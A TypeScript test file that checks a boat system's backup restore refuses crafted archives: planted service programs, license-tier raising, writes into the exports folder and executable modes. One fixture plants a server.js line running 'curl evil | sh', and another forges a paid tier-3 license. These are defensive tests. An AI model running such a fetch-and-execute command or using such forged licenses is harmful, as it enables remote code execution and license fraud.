import assert from 'node:assert/strict';
import * as fs from 'fs';
import * as path from 'path';
import { restoreBackup } from '../../lib/backup';
import { BoatDataError } from '../../lib/errors';
import { backupTestBoat, BackupTestBoat, craftedArchive, treeDigest } from './boat';

// A checksum file and a manifest are made by whoever makes the archive: a
// hand-made one that matches itself perfectly is still only as good as what
// the restore lets it write.

const licenseOf = (t: BackupTestBoat) => JSON.parse(fs.readFileSync(t.boat.layout.license, 'utf8'));

/** A tier 3 license with no resets used and a paid subscription, as a crafted backup would carry. */
function raisedLicense(t: BackupTestBoat): string {
    return JSON.stringify({
        ...licenseOf(t),
        installation_id: 'feedfacefeedface',
        tier: 3,
        reset_count: 0,
        max_resets: 99,
        features: { export: true, scheduled_export: true, marine_vision: true, cloud_sync: true },
        subscription_status: 'active',
        subscription_expires_at: '2099-12-31T00:00:00Z',
        upgrade_method: 'license_key',
        is_paid_tier: true,
        paid_tier_level: 3,
        version: '0.9.2.0',
    });
}

describe('a hand-made archive with a matching manifest and checksum', function () {
    this.timeout(30000);
    let t: BackupTestBoat;

    afterEach(() => t.scratch.remove());

    describe('on a tier 0 boat', () => {
        beforeEach(async () => {
            t = await backupTestBoat('backup-crafted', { tier: 0 });
        });

        it('cannot plant a program under services/: the whole archive is refused and nothing is written', async () => {
            const name = craftedArchive(t, [
                { path: 'config/onboarding.json', content: '{"vessel_name": "Crafted"}' },
                { path: 'services/dashboard/server.js', content: 'require("child_process").exec("curl evil | sh")\n', mode: '0755' },
            ]);
            const before = treeDigest(t.scratch.dir);
            await assert.rejects(restoreBackup(t.settings, name), (err: unknown) => {
                assert.ok(err instanceof BoatDataError, String(err));
                assert.equal(err.code, 'BACKUP_UNSAFE');
                assert.match(err.message, /services\/dashboard\/server\.js \(a place a d3kOS backup never writes\)/);
                return true;
            });
            assert.deepEqual(treeDigest(t.scratch.dir), before);
            assert.ok(!fs.existsSync(path.join(t.boat.root, 'services', 'dashboard', 'server.js')));
        });

        it('still restores the onboarding vessel.env, the one file of services/ a backup holds', async () => {
            const name = craftedArchive(t, [{ path: 'services/dashboard/config/vessel.env', content: 'VESSEL_NAME="Restored"\n' }]);
            const report = await restoreBackup(t.settings, name);
            assert.deepEqual(report.files_changed, ['services/dashboard/config/vessel.env']);
            assert.equal(fs.readFileSync(t.boat.layout.vesselEnv, 'utf8'), 'VESSEL_NAME="Restored"\n');
        });

        it('cannot raise the tier: the boat keeps its tier, subscription and resets, and takes the rest of the license', async () => {
            const boatLicense = licenseOf(t);
            assert.equal(boatLicense.tier, 0);
            const name = craftedArchive(t, [{ path: 'config/license.json', content: raisedLicense(t) }]);

            for (const keepInstallationId of [true, false]) {
                const report = await restoreBackup(t.settings, name, { keepInstallationId });
                const license = licenseOf(t);
                for (const field of ['tier', 'features', 'subscription_status', 'subscription_expires_at', 'is_paid_tier', 'paid_tier_level', 'reset_count', 'max_resets']) {
                    assert.deepEqual(license[field], boatLicense[field], `${field} was taken from the backup (keepInstallationId ${keepInstallationId})`);
                }
                // The tier 0 boat has no upgrade method; the backup's is not added.
                assert.ok(!('upgrade_method' in license), 'upgrade_method was taken from the backup');
                assert.equal(license.version, '0.9.2.0', 'the rest of the license comes from the backup');
                assert.equal(license.installation_id, keepInstallationId ? boatLicense.installation_id : 'feedfacefeedface');
                assert.deepEqual([report.license.tier_kept, report.license.tier_in_backup], [0, 3]);
                assert.match(report.message, /keeps its own tier 0/);
            }
        });

        it("cannot write into the exports folder: the queue and watermarks stay the running boat's", async () => {
            const queue = '{"version":1,"entries":[{"export_id":"live-1","status":"pending"}]}\n';
            const watermarks = '{"boatlog":"2026-11-20T00:00:00Z"}\n';
            fs.mkdirSync(t.boat.layout.exportsDir, { recursive: true });
            fs.writeFileSync(t.boat.layout.queueFile, queue);
            fs.writeFileSync(t.boat.layout.watermarksFile, watermarks);
            const name = craftedArchive(t, [
                { path: 'config/onboarding.json', content: '{"vessel_name": "Crafted"}' },
                { path: 'data/exports/export_queue.json', content: '{"version":1,"entries":[]}\n' },
                { path: 'data/exports/watermarks.json', content: '{}\n' },
                { path: 'data/exports/exports/planted.json.gz', content: 'planted' },
            ]);
            const report = await restoreBackup(t.settings, name);
            assert.deepEqual(report.files_changed, ['config/onboarding.json']);
            assert.deepEqual(
                report.not_restored.map((n) => n.path),
                ['data/exports/export_queue.json', 'data/exports/watermarks.json', 'data/exports/exports/planted.json.gz'],
            );
            for (const item of report.not_restored) assert.match(item.reason, /exports folder: the export queue and watermarks belong to the running boat/);
            assert.equal(fs.readFileSync(t.boat.layout.queueFile, 'utf8'), queue);
            assert.equal(fs.readFileSync(t.boat.layout.watermarksFile, 'utf8'), watermarks);
            assert.ok(!fs.existsSync(path.join(t.boat.layout.exportFilesDir, 'planted.json.gz')));
        });

        it('cannot make a file executable: restored modes lose every execute bit', async () => {
            const name = craftedArchive(t, [
                { path: 'data/manuals/run.sh', content: '#!/bin/sh\necho hi\n', mode: '0755' },
                { path: 'config/open.json', content: '{}', mode: '0777' },
                { path: 'config/private.json', content: '{}', mode: '0600' },
            ]);
            await restoreBackup(t.settings, name);
            const mode = (relative: string) => fs.statSync(path.join(t.boat.root, relative)).mode & 0o7777;
            assert.equal(mode('data/manuals/run.sh').toString(8), '644');
            assert.equal(mode('config/open.json').toString(8), '666');
            assert.equal(mode('config/private.json').toString(8), '600');
        });
    });

    it("onto a fresh card with no license, the backup's license goes in as it is", async () => {
        t = await backupTestBoat('backup-crafted-fresh', { tier: 0 });
        const crafted = raisedLicense(t);
        fs.rmSync(t.boat.layout.license);
        const report = await restoreBackup(t.settings, craftedArchive(t, [{ path: 'config/license.json', content: crafted }]));
        assert.equal(fs.readFileSync(t.boat.layout.license, 'utf8'), crafted);
        assert.equal(report.license.tier_kept, 3);
        assert.match(report.license.note, /no readable license/);
    });
});
